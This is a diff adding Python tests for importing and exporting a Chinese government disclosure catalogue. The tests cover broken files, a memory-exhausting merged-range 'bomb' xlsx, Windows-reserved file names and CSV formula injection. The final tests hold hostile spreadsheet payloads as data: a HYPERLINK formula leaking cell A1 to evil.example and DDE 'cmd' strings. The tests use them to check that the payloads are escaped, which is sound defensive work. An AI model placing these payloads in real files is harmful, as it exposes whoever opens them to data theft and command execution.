@@ -3,6 +3,8 @@ the shapes counties use) come in as valid items; the site's CSV download imports
 from __future__ import annotations
 
 import csv
+import subprocess
+import sys
 import io
 from pathlib import Path
 
@@ -390,3 +392,141 @@ def test_channel_audience_method_and_level_words():
     assert parse_levels("乡、村级") == ["乡级", "村级"]
     assert parse_levels("县（市、区）级，镇级") == ["县级", "乡级"]
     assert parse_levels("") == []
+
+
+# ---------------------------------------------------------------- hostile tables (issue 9), through `invoke import`
+
+from conftest import run_invoke  # noqa: E402
+
+
+@pytest.fixture
+def site(tmp_path) -> Path:
+    """A project with tasks.py, so `python3 -m invoke import` runs as an editor runs it."""
+    return make_mini_project(tmp_path / "site")
+
+
+def test_files_that_are_not_tables_give_a_chinese_message_not_a_traceback(site, tmp_path):
+    missing, folder = tmp_path / "没有这个文件.xlsx", tmp_path / "目录文件夹.xlsx"
+    folder.mkdir()
+    cases = [
+        (missing, f"{missing}：找不到这个文件。请检查文件名和所在的文件夹（可以把文件拖进命令行窗口，得到完整的路径）"),
+        (folder, f"{folder}：这是一个文件夹，不是表格文件。请指定一个 .xlsx 或 .csv 文件"),
+        (FIXTURES / "encrypted.xlsx", "encrypted.xlsx：文件设置了打开密码（或是改了扩展名的旧版 .xls 文件），无法读取。"
+         "请在 Excel 或 WPS 中取消密码（文件 → 信息 → 保护工作簿）并另存为 .xlsx，再重新导入"),
+        (FIXTURES / "not-a-zip.xlsx", "not-a-zip.xlsx：不是有效的 .xlsx 文件（可能已损坏，或是改了扩展名的其他文件）。"
+         "请在 Excel 或 WPS 中打开后“另存为”.xlsx，再重新导入"),
+    ]
+    for path, message in cases:
+        done = run_invoke(site, "import", str(path))
+        assert (done.returncode, done.stdout, done.stderr) == (1, "", message + "\n"), path
+
+
+def test_a_merged_range_to_the_end_of_the_sheet_is_clipped_to_the_table(site):
+    """<mergeCell ref="C3:XFD1048576"/> in a 5 KB file: 17 billion cells if expanded (openpyxl ran
+    out of memory after 105 s). It covers the real cells from C3 on, and no more."""
+    assert (FIXTURES / "merge-bomb.xlsx").stat().st_size < 6000
+    done = subprocess.run([sys.executable, "-m", "invoke", "import", str(FIXTURES / "merge-bomb.xlsx"), "--dry-run"],
+                          cwd=site, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 1 and done.stderr == ""
+    lines = done.stdout.split("\n")
+    assert lines[0] == "导入 merge-bomb.xlsx：共 3 行事项，将写入 1 个事项文件，未导入 2 行，已存在未覆盖 0 个。"
+    assert "  content/items/社会救助/最低生活保障.md" in lines
+    # C3's value (临时救助) spread over C3:J4, as Excel shows it: rows 3 and 4 are listed, not guessed.
+    assert lines[lines.index("未导入的行（请修改表格后重新导入）：") + 1] == (
+        "  第 3 行（序号 2）：公开时限“临时救助”无法按规则归入长期、定期或即时（规则见 README“从现有目录表格迁移”）："
+        "请在表格中写明，如“常年公开”“每季度”“信息形成之日起20个工作日内”，再重新导入；"
+        "公开对象“临时救助”无法识别：应为全社会、特定群体（可在括号中写明群体）或内部；公开方式“临时救助”无法识别：应为主动或依申请")
+
+
+def test_formulas_import_their_saved_result_or_are_listed(project):
+    report = import_table(FIXTURES / "formulas.xlsx", project, date="2024-03-05")
+    items = validated(project)
+    assert items["临时救助"]["公开依据"] == ["《社会救助暂行办法》"]  # the HYPERLINK's saved result, not the formula
+    assert report.unmapped == [("第 4 行（序号 3）", [
+        "“公开时限”列是公式，文件中没有保存计算结果：请在 Excel 或 WPS 中打开表格、保存后再重新导入"])]
+    written = "".join(p.read_text(encoding="utf-8") for p in (project / "content/items").rglob("*.md"))
+    assert "HYPERLINK" not in written and "evil.example" not in written
+
+
+def test_every_reported_row_arrives_whatever_its_title(site, tmp_path):
+    """Titles the build would skip (README, ~$…, .hidden) or Windows cannot create (CON, nul.txt,
+    COM1, trailing dots) become file names both keep."""
+    titles = ["README", "readme", "~$临时救助", "CON", "nul.txt", "COM1", "Aux.", ".隐藏事项", "普通事项 .", "LPT9"]
+    rows = "".join(f"{n},社会救助,临时救助,{t},名单,《社会救助暂行办法》,每季度,示例县民政局,政府网站,全社会,主动\n"
+                   for n, t in enumerate(titles, 1))
+    table = tmp_path / "目录.csv"
+    table.write_text(",".join(HOSTILE_HEADER) + "\n" + rows, encoding="utf-8")
+    done = run_invoke(site, "import", str(table), "--date", "2024-03-05")
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.stdout.startswith("导入 目录.csv：共 10 行事项，已写入 10 个事项文件，未导入 0 行")
+    names = sorted(p.name for p in (site / "content/items/社会救助").glob("*.md"))
+    assert names == sorted(["事项-README.md", "事项-readme.md", "事项-~$临时救助.md", "事项-CON.md", "事项-nul.txt.md",
+                            "事项-COM1.md", "事项-Aux.md", "隐藏事项.md", "普通事项.md", "事项-LPT9.md", "低保名单.md"])
+    catalogue, problems = load_catalogue(Paths.for_root(site))
+    assert not problems, format_report(problems)
+    assert sorted(i.title for i in catalogue.items if i.source.startswith("content/items/社会救助/")) == \
+        sorted(titles + ["城乡最低生活保障对象名单"])
+
+
+HOSTILE_HEADER = ["序号", "一级事项", "二级事项", "事项名称", "公开内容（要素）", "公开依据", "公开时限", "公开主体",
+                  "公开渠道和载体", "公开对象", "公开方式"]
+
+
+def test_too_many_cells_or_columns_are_refused_or_named(project, tmp_path, monkeypatch):
+    from tools import tablefile
+
+    table = tmp_path / "宽表.csv"
+    row = "1,社会救助,临时救助,宽事项,名单,《社会救助暂行办法》,每季度,示例县民政局,政府网站,全社会,主动"
+    table.write_text(",".join(HOSTILE_HEADER) + "\n" + row + "," * 300 + "远处的备注\n", encoding="utf-8")
+    report = import_table(table, project, date="2024-03-05", dry_run=True)
+    assert report.ok and "第 200 列以后还有 1 个填了内容的单元格，超出导入范围，已忽略" in report.notes
+    monkeypatch.setattr(tablefile, "MAX_CELLS", 100)
+    with pytest.raises(ImportTableError) as excinfo:
+        import_table(table, project)
+    assert str(excinfo.value) == "宽表.csv：表格太大（超过 100 个单元格），请拆分成几个文件分批导入"
+
+
+# ---------------------------------------------------------------- formula injection in the site's CSV (issue 9, critical 5)
+
+FORMULA_VALUES = {
+    "事项名称": '=HYPERLINK("https://evil.example/?"&A1,"点击查看详情")',
+    "公开内容": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"],
+    "公开依据": ["-2+3+cmd|' /C calc'!A0", "'=已有引号"],
+}
+
+
+def test_the_sites_csv_never_runs_a_formula_and_imports_back_exactly(tmp_path):
+    root = make_mini_project(tmp_path / "site")
+    item = root / "content/items/社会救助/低保名单.md"
+    text = item.read_text(encoding="utf-8")
+    text = text.replace("事项名称: 城乡最低生活保障对象名单", "事项名称: '=HYPERLINK(\"https://evil.example/?\"&A1,\"点击查看详情\")'")
+    text = text.replace("  - 保障对象户主姓名（部分隐去）\n  - 保障人数和月保障金额\n",
+                        "  - \"+cmd|' /C calc'!A0\"\n  - \"@SUM(1+1)*cmd|' /C calc'!A0\"\n  - \"=1+1\"\n")
+    text = text.replace("  - 《社会救助暂行办法》\n", "  - \"-2+3+cmd|' /C calc'!A0\"\n  - \"'=已有引号\"\n", 1)
+    item.write_text(text, encoding="utf-8")
+    build = run_build(root)
+    assert build.returncode == 0, build.stdout + build.stderr
+    raw = (root / "output/downloads/catalogue.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c.lstrip()[:1] in ("=", "+", "-", "@") or c[:1] in ("\t", "\r")]
+    hostile = next(row for row in rows if "HYPERLINK" in row[3])
+    assert hostile[3] == "'" + FORMULA_VALUES["事项名称"]
+    assert hostile[4] == "'" + "\n".join(FORMULA_VALUES["公开内容"])
+    assert hostile[5] == "'" + "\n".join(FORMULA_VALUES["公开依据"])
+    again = make_project(tmp_path / "again")
+    done = import_table(root / "output/downloads/catalogue.csv", again, date="2024-03-05")
+    assert done.ok, done.text()
+    meta = validated(again)[FORMULA_VALUES["事项名称"]]
+    assert (meta["公开内容"], meta["公开依据"]) == (FORMULA_VALUES["公开内容"], FORMULA_VALUES["公开依据"])
+
+
+@pytest.mark.parametrize("value, safe", [
+    ("=1+1", "'=1+1"), (" =1+1", "' =1+1"), ("+86 电话", "'+86 电话"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t制表符", "'\t制表符"), ("\r回车", "'\r回车"), ("'=已有引号", "''=已有引号"), ("''=x", "'''=x"),
+    ("普通文字", "普通文字"), ("'引号开头", "'引号开头"), ("a=b", "a=b"), ("", ""), ("＝全角", "＝全角"),
+])
+def test_spreadsheet_safe_cells_and_back(value, safe):
+    from catalogue.tabular import as_written, spreadsheet_safe
+
+    assert spreadsheet_safe(value) == safe and as_written(safe) == value
